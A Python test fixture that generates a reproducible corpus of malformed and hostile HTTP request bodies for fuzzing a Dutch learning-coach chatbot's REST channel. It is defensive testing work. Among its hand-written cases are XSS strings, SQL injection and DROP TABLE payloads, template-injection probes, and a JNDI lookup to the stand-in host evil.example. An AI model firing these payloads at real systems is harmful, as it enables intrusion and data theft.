"""A reproducible corpus of hostile REST requests: hand-written cases plus generated ones (fixed seed).

Each case is the raw HTTP body (bytes), so invalid UTF-8 can be sent as it is, and the text the
message stands for (for the size check).
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from typing import List

from leercoach.channels.guard import domain_intents

SEED = 20261201
SIZE = 1200


@dataclass(frozen=True)
class Case:
    label: str
    body: bytes
    message_chars: int  # how long the message is, as the channel will read it (about)


def _json_case(label: str, message, sender: str) -> Case:
    length = len(message) if isinstance(message, str) else 0
    return Case(label, json.dumps({"sender": sender, "message": message}).encode(), length)


def _raw_case(label: str, message_bytes: bytes, sender: str) -> Case:
    body = b'{"sender": "' + sender.encode() + b'", "message": "' + message_bytes + b'"}'
    return Case(label, body, len(message_bytes))


HAND_WRITTEN_TEXTS = {
    "empty": "",
    "spaces": "   ",
    "newlines": "\n\n\n",
    "100 kB": "leercultuur " * 9000,
    "just over the limit": "a" * 4001,
    "control characters": "".join(chr(c) for c in range(32)) + "\x7f hallo",
    "NUL in a word": "hal\x00lo",
    "script tag": "<script>alert('x')</script>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "javascript url": "javascript:alert(document.cookie)",
    "html entities": "&lt;b&gt;vet&lt;/b&gt; &#x3C;script&#x3E;",
    "sql drop": "'; DROP TABLE events; --",
    "sql or": "' OR '1'='1",
    "sql union": "1 UNION SELECT sender_id, data FROM events --",
    "jinja": "{{ 7*7 }} {{ config.items() }}",
    "jinja block": "{% for x in range(10) %}{{ x }}{% endfor %}",
    "dollar template": "${7*7} ${jndi:ldap://evil.example/a}",
    "python format": "{hr_contact} {0} {__class__} {max_chars}",
    "printf": "%s%s%s%n%x",
    "rtl arabic": "مرحبا، كيف يمكنني أن أتعلم في العمل؟",
    "rtl hebrew": "שלום, מה זה תרבות למידה?",
    "rtl override": "\u202ewat is een leercultuur?\u202c",
    "zero width": "wat\u200b is\u200c een\u200d leer\ufeffcultuur?",
    "emoji": "😀🎓📚" * 300,
    "emoji zwj": "👩‍💻👨‍👩‍👧‍👦🏳️‍🌈",
    "combining": "Z\u0334\u0321\u032a\u032b\u0353a\u0335\u0330l\u0337go" * 20,
    "lone surrogate": "\ud800 leren \udfff",
    "slash route_feedback unknown route": '/route_feedback{"route": "x"}',
    "slash route_feedback list route": '/route_feedback{"route": ["route_samen_leren"], "route_choice": "fit"}',
    "slash route_feedback huge": '/route_feedback{"route": "' + "r" * 3000 + '", "route_choice": "fit"}',
    "slash route_feedback object": '/route_feedback{"route_choice": {"a": 1}}',
    "slash restart": "/restart",
    "slash session_start": "/session_start",
    "slash back": "/back",
    "slash nlu_fallback": "/nlu_fallback",
    "slash unknown": "/bestaat_niet",
    "slash inform list": '/inform{"time_per_week": [1,2]}',
    "slash inform number": '/inform{"time_per_week": 2}',
    "slash inform null": '/inform{"coaching_goal": null}',
    "slash inform huge": '/inform{"budget": "' + "b" * 3500 + '"}',
    "slash broken json": '/inform{"time_per_week": ',
    "slash only": "/",
    "double slash": "//greet",
    "slash start with entity": '/start_coaching{"coaching_goal": "<script>x</script>"}',
    "slash topic": "/route_samen_leren",
    "slash with spaces": "/greet extra woorden",
}
HAND_WRITTEN_VALUES = {
    "message is a number": 42,
    "message is a list": ["wat", "is"],
    "message is an object": {"text": "hallo"},
    "message is null": None,
    "message is true": True,
}
HAND_WRITTEN_BYTES = {
    "invalid utf-8 ff fe": b"\xff\xfe hallo",
    "invalid utf-8 latin-1": b"caf\xe9 en cr\xe8me",
    "overlong utf-8": b"\xc0\xaf\xe0\x80\xaf",
    "truncated utf-8": b"wat is \xe2\x82",
    "lone continuation bytes": b"\x80\x81\x82",
    "utf-16 bytes": "hallo".encode("utf-16"),
}

WORDS = [
    "wat",
    "is",
    "een",
    "leercultuur",
    "hoe",
    "kan",
    "ik",
    "leren",
    "op",
    "het",
    "werk",
    "feedback",
    "coach",
    "mentor",
    "plan",
    "ontwikkelplan",
    "de",
    "tweede",
    "nummer",
    "drie",
    "vertel",
    "meer",
    "ja",
    "nee",
    "misschien",
    "budget",
    "certificaat",
    "samen",
    "alleen",
    "doen",
    "lezen",
    "praten",
    "tijd",
    "uur",
    "week",
    "collega",
    "manager",
    "hr",
    "vrijwilligerswerk",
    "reflectie",
    "cursus",
    "opleiding",
]
UNICODE_RANGES = [(0x20, 0x7E), (0xA0, 0x24F), (0x370, 0x3FF), (0x400, 0x4FF), (0x590, 0x6FF),
                  (0x900, 0x97F), (0x2000, 0x206F), (0x3040, 0x30FF), (0x4E00, 0x4FFF),
                  (0x1F300, 0x1F6FF), (0xE000, 0xE0FF), (0xFFF0, 0xFFFF)]  # fmt: skip
ENTITY_VALUES = [lambda r: [1, 2], lambda r: r.randint(-10**9, 10**9), lambda r: "x" * r.randint(0, 5000),
                 lambda r: {"nested": {"deep": [None]}}, lambda r: None, lambda r: True,
                 lambda r: r.choice(WORDS), lambda r: "route_" + r.choice(WORDS)]  # fmt: skip
ENTITY_NAMES = ["route", "route_choice", "time_per_week", "social", "learning_style", "certificate",
                "budget", "coaching_goal", "bestaat_niet"]  # fmt: skip


def _random_text(r: random.Random) -> str:
    kind = r.random()
    if kind < 0.3:
        return " ".join(r.choice(WORDS) for _ in range(r.randint(1, 30)))
    if kind < 0.6:
        ranges = r.sample(UNICODE_RANGES, 3)
        return "".join(chr(r.randint(*r.choice(ranges))) for _ in range(r.randint(1, 200)))
    if kind < 0.7:
        return r.choice(WORDS) * r.randint(100, 1500)  # long, some over the limit
    if kind < 0.8:
        return "".join(chr(r.randint(0, 0x1F)) for _ in range(r.randint(1, 20))) + r.choice(WORDS)
    intent = r.choice(sorted(domain_intents()) + ["restart", "session_start", "bestaat_niet", ""])
    entities = {r.choice(ENTITY_NAMES): r.choice(ENTITY_VALUES)(r) for _ in range(r.randint(0, 3))}
    payload = json.dumps(entities) if r.random() < 0.9 else json.dumps(entities)[: r.randint(0, 10)]
    return f"/{intent}{payload if entities or r.random() < 0.5 else ''}"


def corpus(size: int = SIZE, seed: int = SEED) -> List[Case]:
    """The hand-written cases, then generated ones up to ``size``; conversations of about 20 turns."""
    r = random.Random(seed)
    cases: List[Case] = []

    def sender() -> str:
        return f"hostile-{seed}-{len(cases) // 20}"

    for label, text in HAND_WRITTEN_TEXTS.items():
        cases.append(_json_case(label, text, sender()))
    for label, value in HAND_WRITTEN_VALUES.items():
        cases.append(_json_case(label, value, sender()))
    for label, raw in HAND_WRITTEN_BYTES.items():
        cases.append(_raw_case(label, raw.replace(b'"', b"'").replace(b"\\", b"/"), sender()))
    while len(cases) < size:
        if r.random() < 0.05:
            raw = bytes(r.randint(0x80, 0xFF) for _ in range(r.randint(1, 50)))
            cases.append(_raw_case(f"random bytes {len(cases)}", raw, sender()))
        else:
            cases.append(_json_case(f"generated {len(cases)}", _random_text(r), sender()))
    return cases
